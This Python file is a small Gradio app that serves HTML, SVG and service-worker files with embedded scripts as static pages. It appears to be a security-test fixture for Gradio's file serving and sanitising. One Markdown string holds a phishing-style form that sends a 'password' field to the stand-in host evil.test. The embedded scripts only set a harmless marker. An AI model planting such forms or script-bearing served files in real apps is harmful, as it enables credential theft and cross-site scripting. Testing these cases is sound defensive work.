"""Files that browsers show as pages: some that the app shows to everybody, some that a function makes for one person."""

import os
import shutil
from pathlib import Path

import gradio as gr
from PIL import Image

MEDIA = Path(gr.__file__).parent / "media_assets"
TEMPORARY = Path(os.environ["GRADIO_TEMP_DIR"])
SHELF = TEMPORARY / "shelf"
MADE = TEMPORARY / "made"

ACTS = "document.documentElement.dataset.ran = 'yes'"
PAGE = f"<!doctype html><title>Page</title><h1>Page</h1><script>{ACTS}</script>"
DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    f'<circle r="4"/><script>{ACTS}</script></svg>'
)


def fill(folder: Path) -> None:
    folder.mkdir(exist_ok=True)
    (folder / "page.html").write_text(PAGE, encoding="utf-8")
    (folder / "drawing.svg").write_text(DRAWING, encoding="utf-8")
    (folder / "worker.js").write_text("onfetch = () => {}", encoding="utf-8")


def make() -> list[str]:
    fill(MADE)
    (MADE / "words.txt").write_text("words", encoding="utf-8")
    Image.new("RGB", (1, 1)).save(MADE / "picture.png")
    shutil.copy(MEDIA / "videos" / "b.mp4", MADE / "film.mp4")
    shutil.copy(MEDIA / "audio" / "audio_sample.wav", MADE / "sound.wav")
    return sorted(str(file) for file in MADE.iterdir())


fill(SHELF)
MADE.mkdir(exist_ok=True)
# Files below are given out where they lie and as what they are, not as downloads (gradio/route_utils.py 6.31, file_fetch).
gr.set_static_paths([str(SHELF), str(MADE)])
LINKS = "".join(f"<a href='/gradio_api/file={file}'>{file.name}</a>" for file in sorted(SHELF.iterdir()))

with gr.Blocks(title="Shelves", analytics_enabled=False) as demo:
    gr.HTML(LINKS)
    # Gradio cleans this, and keeps the form.
    gr.Markdown('<form action="https://evil.test/"><input name="password"></form>', elem_id="note")
    made = gr.File(label="Made", file_count="multiple", elem_id="made")
    gr.Button("Make", elem_id="make").click(make, None, made, api_name="make")


if __name__ == "__main__":
    demo.launch(
        share=False,
        ssr_mode=False,
        mcp_server=False,
        theme=gr.themes.Base(font=["sans-serif"], font_mono=["monospace"]),
    )
